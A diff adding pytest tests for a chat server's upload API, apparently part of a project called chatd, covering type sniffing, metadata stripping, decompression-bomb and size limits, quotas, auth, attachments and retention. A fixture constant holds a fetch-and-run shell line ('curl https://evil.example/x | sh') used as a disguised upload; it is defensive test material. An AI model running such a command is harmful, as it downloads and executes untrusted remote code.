@@ -1,0 +1,274 @@
+"""Uploads against a real server, on SQLite and on PostgreSQL (docs/api.md, "Uploads";
+docs/protocol.md, "Attachments"): POST /upload, say with attachments, GET /files/."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+import struct
+import zlib
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from PIL import Image
+from tornado.httpclient import AsyncHTTPClient, HTTPRequest
+
+from chatd.store.schema import now_ms
+from tests.stores import KINDS
+from tests.webapp import WebApp
+
+SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
+ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(200)
+
+
+@pytest.fixture(params=KINDS)
+def config_overrides(request: pytest.FixtureRequest, tmp_path: Path, web_app: WebApp) -> dict[str, Any]:
+    database = request.getfixturevalue("postgres_url") if request.param == "postgres" else str(tmp_path / "chatd.db")
+    return {"database": database, "app_tokens": {"secret": web_app.secret}}
+
+
+def png(width: int = 64, height: int = 32, color: tuple = (200, 30, 30)) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (width, height), color).save(out, "PNG")
+    return out.getvalue()
+
+
+def photo_with_gps() -> bytes:
+    """A 600 × 300 JPEG whose EXIF says: turn 90° clockwise to show (orientation 6), taken at a GPS
+    position, by a camera with a serial number; with an XMP packet and a comment."""
+    image = Image.new("RGB", (600, 300), (20, 120, 220))
+    image.paste((250, 250, 0), (0, 0, 60, 300))  # a yellow band on the left: on top once turned
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    exif[0xA431] = "SERIAL-12345"
+    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
+    out = io.BytesIO()
+    image.save(out, "JPEG", exif=exif.tobytes(), xmp=b"<x:xmpmeta>GPSLatitude 52</x:xmpmeta>", comment=b"home")
+    return out.getvalue()
+
+
+async def upload(server: Any, token: str | None, data: bytes, name: str = "file",
+                 headers: dict[str, str] | None = None) -> tuple[int, dict[str, Any]]:
+    sent = {**({"Authorization": f"Bearer {token}"} if token else {}), **(headers or {})}
+    request = HTTPRequest(f"http://127.0.0.1:{server.port}/upload?name={quote(name)}", method="POST",
+                          headers=sent, body=data, request_timeout=30)
+    response = await AsyncHTTPClient().fetch(request, raise_error=False)
+    assert response.headers["Content-Type"].startswith("application/json"), response.body
+    return response.code, json.loads(response.body)
+
+
+async def fetch(server: Any, url: str, **headers: str):
+    return await AsyncHTTPClient().fetch(HTTPRequest(f"http://127.0.0.1:{server.port}{url}", headers=headers),
+                                         raise_error=False)
+
+
+async def test_the_kind_is_told_by_content_not_by_name_or_header(server, user):
+    alice = await user("alice")
+    token = alice.welcome["token"]
+
+    status, ref = await upload(server, token, png(), "holiday.exe", {"Content-Type": "application/x-msdownload"})
+    assert status == 201, ref
+    assert (ref["type"], ref["name"], ref["width"], ref["height"]) == ("image/png", "holiday.png", 64, 32)
+    served = await fetch(server, ref["url"])
+    assert served.headers["Content-Type"] == "image/png"
+    assert served.headers["Content-Disposition"].startswith("inline;")
+    assert Image.open(io.BytesIO(served.body)).format == "PNG"
+
+    status, ref = await upload(server, token, SCRIPT, "cute-cat.png", {"Content-Type": "image/png"})
+    assert status == 201, ref
+    assert (ref["type"], ref["name"]) == ("text/plain", "cute-cat.txt")
+    assert "width" not in ref and "thumb" not in ref
+    served = await fetch(server, ref["url"])
+    assert served.body == SCRIPT
+    assert served.headers["Content-Type"] == "text/plain; charset=utf-8"
+    assert served.headers["Content-Disposition"].startswith("attachment;")
+    assert served.headers["X-Content-Type-Options"] == "nosniff"
+    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
+
+    status, body = await upload(server, token, ELF, "tool.png")
+    assert (status, body["error"]["code"]) == (415, "unsupported_type")
+    server.chat.config.uploads.types = ["image/png"]  # live: text is no longer accepted
+    status, body = await upload(server, token, SCRIPT, "notes.txt")
+    assert (status, body["error"]["code"]) == (415, "unsupported_type")
+    status, body = await upload(server, token, b"\xff\xd8\xff\xe0 not really a jpeg", "x.jpg")
+    assert (status, body["error"]["code"]) == (415, "unsupported_type")  # a JPEG start, JPEG not allowed
+    server.chat.config.uploads.types = ["image/jpeg"]
+    status, body = await upload(server, token, b"\xff\xd8\xff\xe0 not really a jpeg", "x.jpg")
+    assert (status, body["error"]["code"]) == (422, "bad_image")
+
+
+async def test_an_image_loses_its_metadata_is_turned_upright_and_thumbnailed(server, user):
+    alice = await user("alice")
+    status, ref = await upload(server, alice.welcome["token"], photo_with_gps(), "IMG_0001.JPG")
+    assert status == 201, ref
+    assert (ref["type"], ref["name"], ref["width"], ref["height"]) == ("image/jpeg", "IMG_0001.JPG", 300, 600)
+    served = await fetch(server, ref["url"])
+    assert served.code == 200 and served.headers["Content-Type"] == "image/jpeg"
+    stored = Image.open(io.BytesIO(served.body))
+    assert stored.size == (300, 600)
+    assert not stored.getexif() and "exif" not in stored.info and "xmp" not in stored.info
+    assert b"SERIAL-12345" not in served.body and b"GPSLatitude" not in served.body and b"home" not in served.body
+    r, g, b = stored.convert("RGB").getpixel((150, 10))
+    assert r > 200 and g > 200 and b < 80  # the yellow band, on top: the orientation was applied
+    thumb = await fetch(server, ref["thumb"])
+    assert thumb.headers["Content-Type"] == "image/webp"
+    assert Image.open(io.BytesIO(thumb.body)).size == (200, 400)
+    # Immutable, and revalidated by its ETag.
+    assert "immutable" in served.headers["Cache-Control"]
+    again = await fetch(server, ref["url"], **{"If-None-Match": served.headers["ETag"]})
+    assert again.code == 304 and not again.body
+
+
+def png_claiming(width: int, height: int) -> bytes:
+    """A PNG header claiming ``width`` × ``height`` pixels, with one compressed row of data: what a
+    decompression bomb starts with."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(width + 1)))
+            + chunk(b"IEND", b""))
+
+
+async def test_a_decompression_bomb_is_refused_from_its_header(server, user):
+    token = (await user("alice")).welcome["token"]
+    # 400 million pixels: past what Pillow itself refuses to open.
+    status, body = await upload(server, token, png_claiming(20_000, 20_000), "bomb.png")
+    assert (status, body["error"]["code"]) == (413, "image_too_large")
+    # Past uploads.max_pixels, though Pillow would open it.
+    server.chat.config.uploads.max_pixels = 1_000_000
+    status, body = await upload(server, token, png_claiming(2_000, 1_000), "big.png")
+    assert (status, body["error"]["code"]) == (413, "image_too_large")
+    assert body["error"]["message"] == "the image is 2000 × 1000 pixels; at most 1000000 pixels are accepted"
+    status, body = await upload(server, token, png(1_000, 1_000), "fits.png")
+    assert status == 201, body
+
+
+async def test_a_body_over_the_cap_is_refused_before_it_is_read(server, user):
+    alice = await user("alice")
+    server.chat.config.uploads.max_bytes = 4096
+    # A claimed 2 GiB: answered at once, with only a little of the body sent.
+    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
+    writer.write(f"POST /upload?name=big.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {alice.welcome['token']}\r\n"
+                 f"Content-Length: {2 << 30}\r\n\r\n".encode() + bytes(1000))
+    await writer.drain()
+    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
+    assert head.startswith(b"HTTP/1.1 413")
+    length = int(next(line for line in head.split(b"\r\n") if line.lower().startswith(b"content-length"))
+                 .split(b":")[1])
+    assert json.loads(await reader.readexactly(length))["error"]["code"] == "file_too_large"
+    writer.close()
+    status, body = await upload(server, alice.welcome["token"], bytes(5000), "big.bin")
+    assert (status, body["error"]["code"]) == (413, "file_too_large")
+    status, body = await upload(server, alice.welcome["token"], b"a" * 4096, "fits.txt")
+    assert status == 201, body
+
+
+async def test_the_quota_and_the_rate_are_per_user(server, user):
+    alice, bob = await user("alice"), await user("bob")
+    server.chat.config.uploads.quota_bytes = 5000
+    assert (await upload(server, alice.welcome["token"], b"a" * 3000, "one.txt"))[0] == 201
+    status, body = await upload(server, alice.welcome["token"], b"b" * 3000, "two.txt")
+    assert (status, body["error"]["code"]) == (413, "quota_exceeded")
+    assert "3000 of your 5000 bytes" in body["error"]["message"]
+    assert (await upload(server, bob.welcome["token"], b"c" * 3000, "bobs.txt"))[0] == 201
+    server.chat.config.uploads.burst = 1
+    server.chat.config.uploads.per_minute = 1
+    assert (await upload(server, bob.welcome["token"], b"d", "a.txt"))[0] == 201
+    status, body = await upload(server, bob.welcome["token"], b"e", "b.txt")
+    assert (status, body["error"]["code"]) == (429, "rate_limited")
+
+
+async def test_only_a_valid_token_of_a_user_not_banned_uploads(server, user):
+    status, body = await upload(server, None, png())
+    assert (status, body["error"]["code"]) == (401, "bad_token")
+    status, body = await upload(server, "not-a-token", png())
+    assert (status, body["error"]["code"]) == (401, "bad_token")
+    mallory = await user("mallory")
+    await server.chat.moderation.ban_user(_admin(), mallory.welcome["user"]["id"], None, "spam")
+    status, body = await upload(server, mallory.welcome["token"], png())
+    assert (status, body["error"]["code"]) == (403, "banned")
+
+
+def _admin():
+    from chatd.audit import Actor
+
+    return Actor("admin", 1, "root", frozenset({"admin"}))
+
+
+async def test_attachments_are_the_senders_own_unattached_uploads(server, user):
+    alice, bob = await user("alice", "lobby"), await user("bob", "lobby")
+    _, photo = await upload(server, alice.welcome["token"], photo_with_gps(), "a.jpg")
+    _, notes = await upload(server, alice.welcome["token"], SCRIPT, "notes.txt")
+    _, bobs = await upload(server, bob.welcome["token"], png(), "b.png")
+
+    ack = await alice.say("lobby", "", attachments=[photo["id"], notes["id"]])
+    assert ack["type"] == "ack", ack  # a message with files may have no text
+    live = await bob.expect("message", id=ack["id"])
+    assert live["attachments"] == [photo, notes]
+    assert live["attachments"][0]["thumb"] == f"/files/{photo['id']}/thumb"
+
+    refusals = [([bobs["id"]], "bad_attachment"),  # another user's
+                ([photo["id"]], "bad_attachment"),  # attached already
+                (["A" * 22], "bad_attachment"),  # no such upload
+                (["x"], "bad_frame"), ([notes["id"]] * 2, "bad_frame"), ([bobs["id"]] * 11, "bad_frame")]
+    for ids, code in refusals:
+        answer = await alice.say("lobby", "look", attachments=ids)
+        assert answer["code"] == code, (ids, answer)
+    assert (await alice.say("lobby", " "))["code"] == "empty_text"
+    # Nothing of a refused say was kept: bob's upload is still his to send.
+    assert (await bob.say("lobby", "mine", attachments=[bobs["id"]]))["type"] == "ack"
+
+    history = await bob.request("history", room="lobby")
+    shown = {m["id"]: m.get("attachments") for m in history["messages"]}
+    assert shown[ack["id"]] == [photo, notes]
+    carol = await user("carol")  # a resume from before the message replays it with its files
+    joined = await carol.request("join", room="lobby", since=ack["id"] - 1)
+    assert joined["messages"][0]["attachments"] == [photo, notes]
+
+
+async def test_a_deleted_message_deletes_its_files(server, user, connect, web_app):
+    alice = await user("alice", "lobby")
+    mod = await (await connect()).enter("lobby", app_token=web_app.token("m1", name="mod", roles=["moderator"]))
+    _, photo = await upload(server, alice.welcome["token"], png(900, 600), "p.png")
+    ack = await alice.say("lobby", "see", attachments=[photo["id"]])
+    assert (await fetch(server, photo["thumb"])).code == 200
+    assert (await mod.request("delete", id=ack["id"]))["type"] == "done"
+    assert (await fetch(server, photo["url"])).code == 404
+    assert (await fetch(server, photo["thumb"])).code == 404
+    history = await alice.request("history", room="lobby")
+    assert "attachments" not in next(m for m in history["messages"] if m["id"] == ack["id"])
+
+    # Retention: a message purged takes its file along; an upload never sent is purged after a day.
+    _, kept = await upload(server, alice.welcome["token"], b"old notes", "old.txt")
+    await alice.say("lobby", "old", attachments=[kept["id"]])
+    _, loose = await upload(server, alice.welcome["token"], b"never sent", "loose.txt")
+    _, fresh = await upload(server, alice.welcome["token"], b"just now", "fresh.txt")
+    store = server.store
+    await store.writer.run(lambda: store.db.execute_sql(store._q("UPDATE upload SET created = ? WHERE id = ?"),
+                                                        (now_ms() - 25 * 3_600_000, loose["id"])))
+    await store.writer.run(lambda: store.db.execute_sql("UPDATE message SET ts = 0"))
+    server.chat.config.history.retention_days = 1
+    await server.chat.retention.purge(_admin())
+    for gone in (kept, loose):
+        assert (await fetch(server, gone["url"])).code == 404
+    assert (await fetch(server, fresh["url"])).body == b"just now"
+    count = await store.read(lambda: store.db.execute_sql("SELECT count(*) FROM upload_chunk").fetchone()[0])
+    assert count == 1  # fresh.txt's alone
+
+
+async def test_every_node_serves_every_file(two_nodes):
+    a, b = two_nodes.nodes
+    alice = await two_nodes.user(a, "alice", "lobby")
+    bob = await two_nodes.user(b, "bob", "lobby")
+    big = bytes(range(256)) * 4096 + b"\n"  # 1 MiB and a byte: five chunks
+    big = big.replace(b"\x00", b"a")
+    status, ref = await upload(a, alice.welcome["token"], b"%PDF-1.4\n" + big, "report.pdf")
+    assert status == 201, ref
+    ack = await alice.say("lobby", "the report", attachments=[ref["id"]])
+    message = await bob.expect("message", id=ack["id"])
+    served = await fetch(b, message["attachments"][0]["url"])
+    assert served.code == 200 and served.body == b"%PDF-1.4\n" + big
+    assert served.headers["Content-Disposition"] == "attachment; filename=\"report.pdf\"; filename*=UTF-8''report.pdf"
